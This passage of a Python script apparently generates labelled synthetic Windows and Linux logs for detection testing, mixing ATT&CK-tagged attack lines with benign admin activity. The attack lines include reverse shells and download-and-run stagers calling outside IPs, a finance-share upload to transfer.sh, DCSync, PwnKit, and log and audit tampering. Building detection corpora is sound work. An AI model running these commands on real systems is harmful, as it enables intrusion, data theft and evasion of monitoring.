    add(s, sbe(80, f"SRV-FILE03.{DOM}", "Compress-Archive -Path D:\\Shares\\Finance -DestinationPath C:\\Users\\Public\\f.zip -Force; Invoke-RestMethod -Uri https://transfer.sh/f.zip -Method Put -InFile C:\\Users\\Public\\f.zip", "NWIND\\admin_jdelgado"),
        "T1567", "finance share zipped and uploaded to a file-sharing site")
    add(s, sbe(90, LT, "Set-MpPreference -drtm $true -dbm $true -dscrptsc $true", "NWIND\\m.petrov"), "T1562.001", "Defender protections off using parameter aliases")
    add(s, sbx(100, f"DC-02.{DOM}", "wevtutil el | ForEach-Object { wevtutil cl \"$_\" }"), "T1070.001", "every event log cleared in a loop")
    add(s, sbx(110, LT, "Invoke-Mimikatz -Command '\"lsadump::dcsync /domain:nwind.internal /user:NWIND\\krbtgt\"'"), "T1003.006", "DCSync of krbtgt")
    add(s, sbe(120, LT, "Get-ChildItem -Path C:\\Users -Recurse -Include *.kdbx,*.pfx,id_rsa,*.ppk -ErrorAction SilentlyContinue | Select-Object FullName", "NWIND\\m.petrov"),
        "T1552.001", "hunting for key files and password databases")
    add(s, sbe(130, LT, "$a=New-ScheduledTaskAction -Execute 'C:\\ProgramData\\wsat.exe';$t=New-ScheduledTaskTrigger -AtLogOn;Register-ScheduledTask -TaskName 'OneDrive Sync Helper' -Action $a -Trigger $t -User 'SYSTEM' -RunLevel Highest -Force", "NWIND\\m.petrov"),
        "T1053.005", "logon task as SYSTEM posing as OneDrive")
    add(s, c400(150, LT, "powershell -NoP -sta -NonI -W Hidden -Enc " + enc("$wc=New-Object System.Net.WebClient;$wc.Headers.Add('User-Agent','Mozilla/5.0');IEX $wc.DownloadString('http://146.19.24.7:8080/login/process.php')")),
        "T1059.001", "hidden, non-interactive engine started with an encoded stager")
    add(s, c400(160, f"LT-0451.{DOM}", "PowerShell.exe -eC " + enc("iex(iwr -useb http://146.19.24.7/b)")), "T1059.001", "-eC shortened encoded command")
    add(s, c800(170, LT, "powershell.exe -w 1 -c \"&($env:ComSpec[4,15,25]-join'') (irm http://146.19.24.7/c)\"", "&($env:ComSpec[4,15,25]-join'') (irm http://146.19.24.7/c)"),
        "T1027.010", "IEX rebuilt from letters of %ComSpec% to dodge keyword matching")
    add(s, n4103(180, LT, "CommandInvocation(Invoke-WebRequest): \"Invoke-WebRequest\" ParameterBinding(Invoke-WebRequest): name=\"Uri\"; value=\"http://146.19.24.7/x.ps1\" ParameterBinding(Invoke-WebRequest): name=\"OutFile\"; value=\"C:\\Users\\Public\\x.ps1\"",
                 "powershell.exe -w hidden", "NWIND\\m.petrov"), "T1105", "hidden session downloading a script to a public folder")
    add(s, sbe(190, f"SRV-SQL07.{DOM}", "Invoke-SMBExec -Target 172.16.30.9 -Domain nwind -Username admin_jdelgado -Hash $h -Command 'C:\\Windows\\Temp\\s.exe' -verbose", "NWIND\\admin_jdelgado"),
        "T1550.002", "Invoke-SMBExec authenticating with an NTLM hash")
    # benign
    add(s, sbx(300, f"LT-0451.{DOM}", "# Copyright (c) Northwind Endpoint Engineering. Signed.&#xD;&#xA;$regPath = 'HKLM:\\SOFTWARE\\Policies\\Microsoft\\Windows\\WinRM\\Service'&#xD;&#xA;if (-not (Test-Path $regPath)) { New-Item -Path $regPath -Force | Out-Null }&#xD;&#xA;Set-ItemProperty -Path $regPath -Name AllowUnencryptedTraffic -Value 0",
               path="C:\\Windows\\CCM\\ScriptStore\\8F1C2A4B9E7D46A3B1C0D9E8F7A6B5C4_Remediate-WinRM.ps1").replace("&amp;#x", "&#x"), None, "SCCM remediation script hardening WinRM")
    add(s, sbe(310, f"LT-0451.{DOM}", "$cfg = [System.Text.Encoding]::UTF8.GetString([Convert]::FromBase64String($env:INTUNE_CFG)) | ConvertFrom-Json; Set-TimeZone -Id $cfg.TimeZone", "NT AUTHORITY\\SYSTEM",
               path="C:\\Program Files (x86)\\Microsoft Intune Management Extension\\Policies\\Scripts\\4d2e_Set-TimeZone.ps1", level="information"),
        None, "Intune script decoding its own base64 config blob")
    add(s, sbe(320, f"JMP-01.{DOM}", "Get-ADUser -Filter {Enabled -eq $true -and PasswordNeverExpires -eq $true} -Properties PasswordLastSet | Sort-Object PasswordLastSet", "NWIND\\admin_sholm", level="information"),
        None, "admin auditing accounts with non-expiring passwords")
    add(s, sbe(330, f"JMP-01.{DOM}", "Test-NetConnection -ComputerName SRV-SQL07 -Port 1433", "NWIND\\admin_sholm", level="information"), None, "connectivity check")
    add(s, sbe(340, f"SRV-FILE03.{DOM}", "Add-PSSnapin VeeamPSSnapin -ErrorAction SilentlyContinue; Get-VBRBackupSession | Where-Object {$_.EndTime -gt (Get-Date).AddDays(-1)} | Select-Object Name,Result", "NWIND\\svc_veeam", level="information"),
        None, "Veeam backup report")
    add(s, sbe(350, f"JMP-01.{DOM}", "Get-ChildItem Cert:\\LocalMachine\\My | Where-Object { $_.NotAfter -lt (Get-Date).AddDays(30) } | Select-Object Subject,NotAfter,Thumbprint", "NWIND\\admin_sholm", level="information"),
        None, "admin checking certificates due for renewal")
    add(s, sbe(360, f"JMP-01.{DOM}", "Invoke-WebRequest -Uri https://repo.nwind.internal/tools/SplunkForwarder-9.3.1-x64.msi -OutFile C:\\Temp\\uf.msi; Start-Process msiexec.exe -ArgumentList '/i C:\\Temp\\uf.msi /qn' -Wait", "NWIND\\admin_sholm", level="information"),
        None, "admin installing the log forwarder from the internal repository")
    add(s, sbe(370, f"JMP-01.{DOM}", "Compress-Archive -Path C:\\inetpub\\logs\\LogFiles\\W3SVC1\\*.log -DestinationPath \\\\SRV-FILE03\\IT\\iislogs-2026-12.zip", "NWIND\\admin_sholm", level="information"),
        None, "admin archiving IIS logs to the IT share")
    add(s, sbx(380, f"LT-0412.{DOM}", "prompt"), None, "console prompt function")
    add(s, sbx(390, f"LT-0412.{DOM}", "{ Set-StrictMode -Version 1; $_.ErrorCategory_Message }"), None, "formatting script block")
    add(s, sbe(410, f"JMP-01.{DOM}", "Install-Module -Name PSWindowsUpdate -Scope CurrentUser -Repository PSGallery; Get-WindowsUpdate -MicrosoftUpdate", "NWIND\\admin_sholm", level="information"), None, "admin patching")
    add(s, c400(420, f"LT-0412.{DOM}", "\"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\" -NoLogo -NoProfile -NonInteractive -ExecutionPolicy Bypass -File \"C:\\Windows\\CCM\\ScriptStore\\1A2B3C4D5E6F_Detect-Office.ps1\""),
        None, "SCCM detection script host")
    add(s, c400(430, f"LT-0451.{DOM}", "\"C:\\WINDOWS\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\" -NoProfile -executionPolicy bypass -file \"C:\\Program Files (x86)\\Microsoft Intune Management Extension\\Policies\\Scripts\\4d2e_Set-TimeZone.ps1\""),
        None, "Intune script host")
    add(s, c400(440, f"JMP-01.{DOM}", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"), None, "interactive console")
    add(s, c400(445, f"SRV-FILE03.{DOM}", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe -NoProfile -ExecutionPolicy Bypass -File \"C:\\Program Files\\Veeam\\Backup and Replication\\Console\\Scripts\\Report-Jobs.ps1\""),
        None, "Veeam's own reporting script")
    add(s, c800(450, f"JMP-01.{DOM}", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "Get-Service -Name W32Time | Select-Object Status"), None, "admin checking time service")
    add(s, n4103(460, f"JMP-01.{DOM}", "CommandInvocation(Get-Process): \"Get-Process\" ParameterBinding(Get-Process): name=\"Name\"; value=\"w3wp\"", "powershell.exe", "NWIND\\admin_sholm"), None, "admin looking at IIS workers")
    add(s, n4103(470, f"SRV-SQL07.{DOM}", "CommandInvocation(Invoke-Sqlcmd): \"Invoke-Sqlcmd\" ParameterBinding(Invoke-Sqlcmd): name=\"Query\"; value=\"BACKUP DATABASE [ERP] TO DISK = N'F:\\Backup\\ERP.bak' WITH COMPRESSION\"", "powershell.exe -File F:\\Jobs\\Backup-ERP.ps1", "NWIND\\svc_sqlagent"),
        None, "SQL Agent backup job")


def rs(sec, host, prog, msg, pid=None):
    """rsyslog RSYSLOG_FileFormat: high-precision ISO timestamp."""
    x = t(sec)
    p = f"{prog}[{pid or R.randint(200, 60000)}]" if pid is not False else prog
    return f"{x.strftime('%Y-%m-%dT%H:%M:%S')}.{R.randint(0, 999999):06d}+00:00 {host} {p}: {msg}"


def b3164(sec, host, prog, msg, pri=None, pid=None):
    x = t(sec)
    p = f"{prog}[{pid or R.randint(200, 60000)}]" if pid is not False else prog
    return (f"<{pri}>" if pri else "") + f"{x.strftime('%b')} {x.day:>2} {x.strftime('%H:%M:%S')} {host} {p}: {msg}"


def r5424(sec, host, app, msg, pri=38, msgid="-", sd="-", procid=None):
    return f"<{pri}>1 {iso(sec)} {host} {app} {procid or R.randint(200, 60000)} {msgid} {sd} {msg}"


def linux_syslog():
    s = "linux-syslog"
    W = "prod-api-04"

    def snoopy(sec, host, login, uid, sid, filename, cmd, tty="(none)", cwd="/tmp"):
        return b3164(sec, host, "snoopy", f"[uid:{uid} sid:{sid} tty:{tty} cwd:{cwd} filename:{filename} login:{login}]: {cmd}", pri=86)
    add(s, rs(10, W, "CRON", "(root) CMD (wget -q -O - http://37.120.201.9/d.sh | bash > /dev/null 2>&1)"), "T1053.003", "root cron entry piping a remote script into bash")
    add(s, rs(20, W, "CRON", "(nobody) CMD (/dev/shm/.x/upd >/dev/null 2>&1)"), "T1053.003", "cron job for nobody running from /dev/shm")
    add(s, rs(30, "etl-runner-1", "atd", "Starting job 3 (a000030193ab1c) for user 'www-data' (33)"), "T1053.002", "at job scheduled by the web server user")
    add(s, b3164(40, "etl-runner-1", "kernel", "[2204417.551093] nfnetlink_hlp: module verification failed: signature and/or required key missing - tainting kernel", pid=False),
        "T1547.006", "unsigned out-of-tree kernel module loaded")
    add(s, r5424(50, f"{W}.{DOM}", "systemd", "Started kworker-update.service - /dev/shm/.kw/kworker.", pri=30, procid="1"), "T1543.002", "systemd unit running a binary from /dev/shm")
    add(s, snoopy(60, W, "www-data", 33, 23101, "/usr/bin/socat", "socat exec:'bash -li',pty,stderr,setsid,sigint,sane tcp:37.120.201.9:9001"), "T1059.004", "socat reverse shell")
    add(s, snoopy(62, W, "www-data", 33, 23101, "/bin/sh", "sh -c rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 37.120.201.9 9002 >/tmp/f"), "T1059.004", "mkfifo netcat reverse shell")
    add(s, snoopy(64, W, "www-data", 33, 23101, "/bin/sh", "sh -c echo cHl0aG9uMyAtYyAnaW1wb3J0IHB0eTtwdHkuc3Bhd24oIi9iaW4vYmFzaCIpJw== | base64 -d | bash"), "T1140", "base64-decoded command piped into bash")
    add(s, snoopy(68, W, "www-data", 33, 23101, "/dev/shm/lp.sh", "/dev/shm/lp.sh -a -q"), "T1082", "LinPEAS-style host enumeration from /dev/shm")
    add(s, snoopy(70, W, "root", 0, 23101, "/usr/sbin/setenforce", "setenforce 0"), "T1562.001", "SELinux switched to permissive")
    add(s, snoopy(72, W, "root", 0, 23101, "/usr/sbin/iptables", "iptables -F"), "T1562.004", "host firewall rules flushed")
    add(s, snoopy(74, W, "root", 0, 23101, "/usr/bin/truncate", "truncate -s 0 /var/log/auth.log /var/log/syslog"), "T1070.002", "system logs emptied")
    add(s, snoopy(76, W, "root", 0, 23101, "/usr/bin/ln", "ln -sf /dev/null /root/.bash_history"), "T1070.003", "root history redirected to /dev/null")
    add(s, snoopy(78, W, "root", 0, 23101, "/usr/bin/chattr", "chattr +i /etc/cron.d/sysupd"), "T1222.002", "malicious cron file made immutable")
    add(s, snoopy(80, W, "root", 0, 23101, "/bin/sh", "sh -c echo /usr/lib/x86_64-linux-gnu/libsysd.so > /etc/ld.so.preload"), "T1574.006", "library injected into every process via ld.so.preload")
    add(s, snoopy(82, W, "root", 0, 23101, "/bin/sh", "sh -c echo 'nohup /dev/shm/.kw/kworker >/dev/null 2>&1 &' >> /home/deploy/.bashrc"), "T1546.004", "persistence through a user's .bashrc")
    add(s, snoopy(84, W, "root", 0, 23101, "/bin/sh", "sh -c echo '/dev/shm/.kw/kworker &' >> /etc/rc.local"), "T1037.004", "persistence through rc.local")
    add(s, snoopy(86, W, "root", 0, 23101, "/usr/bin/tcpdump", "tcpdump -i any -s0 -w /dev/shm/.p port 389 or port 21 or port 110"), "T1040", "sniffing clear-text protocols")
    add(s, b3164(88, "etl-runner-1", "kernel", "[2204500.100221] audit: type=1305 audit(1796216943.120:8811): op=set audit_enabled=0 old=1 auid=1003 ses=12 subj=unconfined res=1", pid=False),
        "T1562.012", "kernel auditing switched off")
    add(s, json.dumps({"__REALTIME_TIMESTAMP": str(int(t(90).timestamp() * 1e6)), "_HOSTNAME": "ci-agent-07", "_SYSTEMD_UNIT": "kdevtmpfsi.service", "SYSLOG_IDENTIFIER": "kdevtmpfsi",
                       "_EXE": "/tmp/kdevtmpfsi", "_UID": "1001", "PRIORITY": "6", "MESSAGE": "[2026-12-02 13:06:07.223]  cpu  READY threads 8(8) huge pages 0% memory 2.3 MB; pool donate.v2.xmrig.com:3333"}, separators=(",", ":")),
        "T1496.001", "Kinsing-style miner running from /tmp (journald export)")
    # benign
    add(s, rs(200, W, "rsyslogd", "[origin software=\"rsyslogd\" swVersion=\"8.2312.0\" x-pid=\"812\" x-info=\"https://www.rsyslog.com\"] rsyslogd was HUPed", pid=False), None, "logrotate HUP")
    add(s, rs(205, W, "CRON", "(root) CMD (test -x /usr/sbin/anacron || { cd / && run-parts --report /etc/cron.daily; })"), None, "daily cron")
    add(s, rs(210, "backup-02", "CRON", "(backup) CMD (/usr/local/bin/restic-nightly.sh >> /var/log/restic.log 2>&1)"), None, "restic nightly")
    add(s, rs(215, "backup-02", "borg", "Pruning archive: etl-2026-11-01T02:00:03 Sun, 2026-11-01 02:00:04 [a1b2c3]"), None, "borg prune")
    add(s, rs(220, "backup-02", "rsync", "rsync to backup@10.80.0.9::prod-api/ completed: sent 882,114,552 bytes in 41s"), None, "rsync job")
    add(s, rs(225, "etl-runner-1", "dnf", "Upgraded: openssl-libs-1:3.2.2-6.el9_5.x86_64", pid=False), None, "package update")
    add(s, rs(230, "etl-runner-1", "dnf-automatic", "Security updates: 4 packages installed"), None, "automatic security updates")
    add(s, r5424(235, f"{W}.{DOM}", "certbot", "Renewing an existing certificate for api.nwind.example; Congratulations, all renewals succeeded", pri=30), None, "certificate renewal")
    add(s, r5424(240, f"{W}.{DOM}", "systemd", "Starting logrotate.service - Rotate log files...", pri=30, procid="1"), None, "logrotate")
    add(s, r5424(245, f"{W}.{DOM}", "systemd", "Started snapd.refresh.timer.", pri=30, procid="1"), None, "snap refresh")
    add(s, r5424(250, "ci-agent-07.nwind.internal", "dockerd", "time=\"2026-12-02T13:08:41.101Z\" level=info msg=\"ignoring event\" container=9f8e7d module=libcontainerd namespace=moby topic=/tasks/delete", pri=30), None, "docker noise")
    add(s, b3164(255, "etl-runner-1", "kernel", "[2204610.003311] EXT4-fs (sdb1): mounted filesystem 0f1e2d3c with ordered data mode. Quota mode: none.", pid=False), None, "disk mounted")
    add(s, snoopy(265, W, "opsadmin", 1002, 4410, "/usr/bin/apt-get", "apt-get -y upgrade", tty="/dev/pts/1", cwd="/home/opsadmin"), None, "admin upgrading packages")
    add(s, snoopy(270, W, "opsadmin", 1002, 4410, "/usr/bin/systemctl", "systemctl restart nginx", tty="/dev/pts/1", cwd="/home/opsadmin"), None, "admin restarting nginx")
    add(s, snoopy(275, W, "opsadmin", 1002, 4410, "/usr/bin/tar", "tar czf /backup/etc-2026-12-02.tgz /etc", tty="/dev/pts/1", cwd="/root"), None, "admin backing up /etc")
    add(s, snoopy(280, W, "opsadmin", 1002, 4410, "/usr/bin/crontab", "crontab -l", tty="/dev/pts/1", cwd="/home/opsadmin"), None, "admin listing crontab")
    add(s, snoopy(285, W, "opsadmin", 1002, 4410, "/usr/bin/whoami", "whoami", tty="/dev/pts/1", cwd="/home/opsadmin"), None, "admin whoami in an interactive session")
    add(s, rs(290, W, "chronyd", "System clock wrong by 0.000912 seconds"), None, "ntp")
    add(s, json.dumps({"__REALTIME_TIMESTAMP": str(int(t(300).timestamp() * 1e6)), "_HOSTNAME": "ci-agent-07", "_SYSTEMD_UNIT": "gitlab-runner.service", "SYSLOG_IDENTIFIER": "gitlab-runner",
                       "_EXE": "/usr/bin/gitlab-runner", "_UID": "999", "PRIORITY": "6", "MESSAGE": "Job succeeded  duration_s=212.4 job=88412 project=41 runner=Xy7kQ2"}, separators=(",", ":")), None, "CI job (journald export)")
    add(s, json.dumps({"__REALTIME_TIMESTAMP": str(int(t(305).timestamp() * 1e6)), "_HOSTNAME": "backup-02", "_SYSTEMD_UNIT": "aws-backup-agent.service", "SYSLOG_IDENTIFIER": "backup-agent",
                       "_EXE": "/usr/local/bin/backup-agent", "_UID": "0", "PRIORITY": "6", "MESSAGE": "snapshot upload finished: s3://nwind-backups/prod-api-04/2026-12-02 (12.2 GiB)"}, separators=(",", ":")), None, "backup agent")


def linux_auth():
    s = "linux-auth"
    E = "edge-ssh-02"
    bf = "61.177.172.140"
    pid = 30111
    for i in range(3):
        add(s, rs(10 + i * 3, E, "sshd", f"pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost={bf}  user=root", pid=pid + i),
            "T1110.001", "root password guessing from one address (PAM line)")
        add(s, rs(11 + i * 3, E, "sshd", f"Failed password for root from {bf} port {R.randint(30000, 65000)} ssh2", pid=pid + i),
            "T1110.001", "root password guessing from one address")
    add(s, rs(25, E, "sshd", f"message repeated 5 times: [ Failed password for root from {bf} port 41022 ssh2]", pid=pid + 5), "T1110.001", "syslog-collapsed repeats of the same failure")
    sp = "45.61.184.202"
    for i, u in enumerate(["admin", "postgres", "oracle", "jenkins"]):
        add(s, b3164(40 + i * 2, E, "sshd", f"Invalid user {u} from {sp} port {R.randint(30000, 65000)}", pid=40100 + i), "T1110.003", "one address cycling through common user names")
        add(s, b3164(41 + i * 2, E, "sshd", f"Failed password for invalid user {u} from {sp} port {R.randint(30000, 65000)} ssh2", pid=40100 + i), "T1110.003", "one address cycling through common user names")
    add(s, b3164(60, E, "sshd", f"Accepted password for svc_ftp from {sp} port 51544 ssh2", pid=40120), "T1078.003", "spraying address finally logs in to a local service account")
    add(s, rs(70, "db-pg-02", "sudo", "postgres : TTY=pts/1 ; PWD=/var/lib/pgsql ; USER=root ; COMMAND=/usr/bin/find . -exec /bin/sh -p ; -quit"), "T1548.003", "sudo-allowed find abused for a root shell (GTFOBins)")
    add(s, rs(75, "db-pg-02", "sudo", "postgres : TTY=pts/1 ; PWD=/tmp ; USER=root ; COMMAND=/usr/sbin/setcap cap_setuid+ep /usr/bin/python3.11"), "T1548.001", "setuid capability on python")
    add(s, rs(80, "db-pg-02", "sudo", "postgres : TTY=pts/1 ; PWD=/tmp ; USER=root ; COMMAND=/usr/bin/cp /etc/shadow /tmp/.s"), "T1003.008", "shadow file copied out")
    add(s, rs(85, "db-pg-02", "sudo", "postgres : TTY=pts/1 ; PWD=/tmp ; USER=root ; COMMAND=/usr/sbin/insmod /dev/shm/.m/hlp.ko"), "T1547.006", "kernel module from /dev/shm")
    add(s, rs(90, "db-pg-02", "sudo", "deploy : TTY=pts/3 ; PWD=/home/deploy ; USER=root ; COMMAND=/usr/bin/tee -a /etc/sudoers.d/90-cloud-init-users"), "T1548.003", "sudoers rule appended with tee")
    add(s, rs(95, "db-pg-02", "usermod", "change user 'games' UID from '5' to '0'"), "T1098", "existing system account given uid 0")
    add(s, rs(110, "db-pg-02", "useradd", "new user: name=.sys, UID=0, GID=0, home=/var/.sys, shell=/bin/sh, from=none"), "T1136.001", "hidden-name uid-0 account created without a terminal")
    add(s, rs(115, "ci-agent-07", "pkexec", "gitlab-runner: The value for the SHELL variable was not found the /etc/shells file [USER=root] [TTY=/dev/pts/0] [CWD=/tmp/.p] [COMMAND=GCONV_PATH=./pwnkit.so:. SHELL=pwnkit CHARSET=PWNKIT GIO_USE_VFS=]"),
        "T1068", "PwnKit (CVE-2021-4034) exploitation attempt")
    add(s, rs(120, "prod-api-04", "su", "pam_unix(su:session): session opened for user root(uid=0) by www-data(uid=33)"), "T1078.003", "web server account becomes root with su (password known to the attacker)")
    # benign
    add(s, rs(200, E, "sshd", "Accepted publickey for ansible from 10.80.0.21 port 55110 ssh2: RSA SHA256:mq2X0n9bKpL4sT8vR1cY6eW3uA5zH7jD0fG2iO9kQ1w"), None, "Ansible key login from the automation host")
    add(s, rs(201, E, "sshd", "pam_unix(sshd:session): session opened for user ansible(uid=1010) by ansible(uid=0)"), None, "session open")
    add(s, rs(205, E, "sshd", "Failed password for k.olsen from 172.16.12.44 port 50122 ssh2"), None, "a single mistyped password from the office")
    add(s, rs(206, E, "sshd", "pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=172.16.12.44  user=k.olsen"), None, "PAM line of the same single failure")
    add(s, rs(210, E, "sshd", "Accepted password for k.olsen from 172.16.12.44 port 50130 ssh2"), None, "user gets it right")
    add(s, rs(215, "db-pg-02", "sudo", "opsadmin : TTY=pts/0 ; PWD=/home/opsadmin ; USER=root ; COMMAND=/usr/bin/systemctl reload postgresql"), None, "admin reloading postgres")
    add(s, rs(220, "db-pg-02", "sudo", "opsadmin : TTY=pts/0 ; PWD=/home/opsadmin ; USER=root ; COMMAND=/usr/bin/journalctl -u postgresql --since today"), None, "admin reading logs")
    add(s, rs(225, "db-pg-02", "sudo", "opsadmin : TTY=pts/0 ; PWD=/home/opsadmin ; USER=root ; COMMAND=/usr/bin/dnf -y update"), None, "admin patching")
    add(s, rs(230, "db-pg-02", "sudo", "opsadmin : TTY=pts/0 ; PWD=/home/opsadmin ; USER=root ; COMMAND=/usr/bin/less /var/log/secure"), None, "admin reading the auth log")
    add(s, rs(235, "db-pg-02", "sudo", "pam_unix(sudo:auth): authentication failure; logname=opsadmin uid=1002 euid=0 tty=/dev/pts/0 ruser=opsadmin rhost=  user=opsadmin"), None, "admin mistypes his sudo password once")
    add(s, rs(240, "db-pg-02", "useradd", "new user: name=m.santos, UID=1012, GID=1012, home=/home/m.santos, shell=/bin/bash, from=/dev/pts/0"), None, "new employee account")
    add(s, rs(241, "db-pg-02", "useradd", "new group: name=m.santos, GID=1012"), None, "primary group")
    add(s, rs(242, "db-pg-02", "chage", "changed password expiry for m.santos"), None, "forced password change at first login")
    add(s, rs(245, "db-pg-02", "passwd", "pam_unix(passwd:chauthtok): password changed for k.olsen"), None, "user changes own password")
    add(s, rs(250, "db-pg-02", "su", "pam_unix(su-l:session): session opened for user postgres(uid=26) by opsadmin(uid=1002)"), None, "admin switching to postgres")
    add(s, rs(255, "db-pg-02", "systemd-logind", "New session 318 of user opsadmin."), None, "logind")
    add(s, rs(260, E, "sshd", "Connection closed by 10.80.0.5 port 41880 [preauth]"), None, "load-balancer health probe")
    add(s, rs(265, E, "sshd", "Received disconnect from 10.80.0.21 port 55110:11: disconnected by user"), None, "disconnect")
    add(s, rs(270, E, "sshd", "pam_unix(sshd:session): session closed for user ansible"), None, "session close")
    add(s, b3164(275, "ws-lnx-dev3", "gdm-password]", "gkr-pam: unlocked login keyring"), None, "desktop unlock")
    add(s, b3164(280, "ws-lnx-dev3", "polkitd", "Registered Authentication Agent for unix-session:2 (system bus name :1.77 [/usr/bin/gnome-shell], object path /org/freedesktop/PolicyKit1/AuthenticationAgent, locale en_US.UTF-8)"), None, "polkit agent")
    add(s, b3164(285, "ws-lnx-dev3", "sudo", "k.olsen : TTY=pts/2 ; PWD=/home/k.olsen/src ; USER=root ; COMMAND=/usr/bin/docker compose up -d"), None, "developer starting containers")
    add(s, b3164(290, "ws-lnx-dev3", "CRON", "pam_unix(cron:session): session opened for user k.olsen(uid=1000) by k.olsen(uid=0)"), None, "cron session")
    add(s, b3164(295, E, "sshd", "Server listening on :: port 22."), None, "sshd start")


def auditd():
    s = "auditd"
    seq = [881200]
    NAMES = {0: "root", 26: "postgres", 33: "www-data", 1002: "opsadmin", 1003: "svc_ftp", 1004: "deploy"}

    def m(sec):
        seq[0] += R.randint(2, 60)
        return f"audit({t(sec).timestamp() + R.randint(1, 999) / 1000:.3f}:{seq[0]})"

    def q(x):
        return f'"{x}"' if x and all(c.isalnum() or c in "/-._:=,+@" for c in x) else hexs(x)

    def rec(sec, argv, uid, auid, exe, key, ses=None, with_syscall=True, with_proctitle=True, cwd="/tmp"):
        mm = m(sec)
        ses = ses if ses is not None else (4294967295 if auid == 4294967295 else R.randint(1, 800))
        out = []
        if with_syscall:
            out.append(f"type=SYSCALL msg={mm}: arch=c000003e syscall=59 success=yes exit=0 a0=7ffd4e1a2b30 a1=5612c0a4f8d0 a2=5612c0a51e40 a3=0 items=2 ppid={R.randint(900, 40000)} pid={R.randint(900, 40000)} "
                       f"auid={auid} uid={uid} gid={uid} euid={uid} suid={uid} fsuid={uid} egid={uid} sgid={uid} fsgid={uid} tty={'pts1' if auid != 4294967295 else '(none)'} ses={ses} "
                       f"comm=\"{exe.split('/')[-1][:15]}\" exe=\"{exe}\" subj=system_u:system_r:unconfined_service_t:s0 key=\"{key}\" ARCH=x86_64 SYSCALL=execve AUID=\"{NAMES.get(auid, 'unset')}\" UID=\"{NAMES.get(uid, str(uid))}\"")
        out.append(f"type=EXECVE msg={mm}: argc={len(argv)} " + " ".join(f"a{i}={q(a)}" for i, a in enumerate(argv)))
        out.append(f"type=CWD msg={mm}: cwd=\"{cwd}\"")
        if with_proctitle:
            out.append(f"type=PROCTITLE msg={mm}: proctitle={hexs(chr(0).join(argv))[:256]}")
        return out

    def group(sec, argv, uid, auid, exe, key, tech, note, **kw):
        lines = rec(sec, argv, uid, auid, exe, key, **kw)
        for i, line in enumerate(lines):
            if line.startswith("type=CWD"):
                if tech is None:
                    add(s, line, None, "working-directory record of an ordinary exec")
            else:
                add(s, line, tech, note)
    group(10, ["bash", "-c", "sh -i >& /dev/udp/37.120.201.9/53 0>&1"], 33, 4294967295, "/usr/bin/bash", "exec_www", "T1059.004", "UDP reverse shell from the web server user")
    group(20, ["perl", "-e", "use Socket;$i=\"37.120.201.9\";$p=4242;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,\">&S\");open(STDOUT,\">&S\");exec(\"/bin/sh -i\");};"],
          33, 4294967295, "/usr/bin/perl", "exec_www", "T1059", "perl reverse shell", with_syscall=False, with_proctitle=False)
    group(30, ["php", "-r", "$sock=fsockopen(\"37.120.201.9\",4443);exec(\"/bin/sh -i <&3 >&3 2>&3\");"], 33, 4294967295, "/usr/bin/php8.2", "exec_www", "T1059.004", "PHP reverse shell", with_syscall=False, with_proctitle=False)
    py = chr(0).join(["python3", "-c", 'import socket,subprocess,os;s=socket.socket();s.connect(("37.120.201.9",8081));[os.dup2(s.fileno(),f) for f in (0,1,2)];subprocess.call(["/bin/sh","-i"])'])
    add(s, f"type=PROCTITLE msg={m(40)}: proctitle={hexs(py)}",
        "T1059.006", "python reverse shell (process title only)")
    add(s, f"type=USER_CMD msg={m(50)}: pid=21877 uid=1003 auid=1003 ses=44 subj=unconfined_u:unconfined_r:unconfined_t:s0 msg='cwd=\"/tmp\" cmd={hexs('unshadow /etc/passwd /etc/shadow')} exe=\"/usr/bin/sudo\" terminal=pts/1 res=success' UID=\"svc_ftp\" AUID=\"svc_ftp\"",
        "T1003.008", "unshadow run through sudo (hex cmd)")
    group(60, ["john", "--wordlist=/usr/share/wordlists/rockyou.txt", "/tmp/.h"], 1003, 1003, "/usr/sbin/john", "exec", "T1110.002", "offline cracking of the dumped hashes", with_syscall=False, with_proctitle=False)
    add(s, f"type=CONFIG_CHANGE msg={m(70)}: auid=1003 ses=44 subj=unconfined_u:unconfined_r:unconfined_t:s0 op=remove_rule key=\"identity\" list=4 res=1AUID=\"svc_ftp\"".replace("res=1AUID", "res=1 AUID"),
        "T1562.012", "audit rule removed by a user session")
    group(72, ["auditctl", "-e", "0"], 0, 1003, "/usr/sbin/auditctl", "audit_cfg", "T1562.012", "auditing disabled", with_syscall=False)
    add(s, f"type=SERVICE_STOP msg={m(74)}: pid=1 uid=0 auid=1003 ses=44 subj=system_u:system_r:init_t:s0 msg='unit=auditd comm=\"systemd\" exe=\"/usr/lib/systemd/systemd\" hostname=? addr=? terminal=? res=success' UID=\"root\" AUID=\"svc_ftp\"",
        "T1562.012", "auditd stopped by the attacker's session")
    add(s, f"type=ADD_USER msg={m(80)}: pid=22011 uid=0 auid=1003 ses=44 subj=unconfined_u:unconfined_r:unconfined_t:s0 msg='op=adding user id=0 exe=\"/usr/sbin/useradd\" hostname=? addr=? terminal=pts/1 res=success' UID=\"root\" AUID=\"svc_ftp\" ID=\"root\"",
        "T1136.001", "user added with id=0")
    add(s, f"type=SYSCALL msg={m(90)}: arch=c000003e syscall=257 success=yes exit=3 a0=ffffff9c a1=55e2c4a0b2a0 a2=241 a3=1b6 items=2 ppid=22001 pid=22040 auid=1003 uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=pts1 ses=44 comm=\"sh\" exe=\"/usr/bin/dash\" subj=unconfined_u:unconfined_r:unconfined_t:s0 key=\"libpreload\"",
        "T1574.006", "shell opening /etc/ld.so.preload for writing (audit watch key)")
    group(100, ["docker", "run", "--rm", "-it", "--privileged", "-v", "/:/host", "alpine", "chroot", "/host", "sh"], 1003, 1003, "/usr/bin/docker", "docker", "T1611", "privileged container with the host root mounted", with_syscall=False)
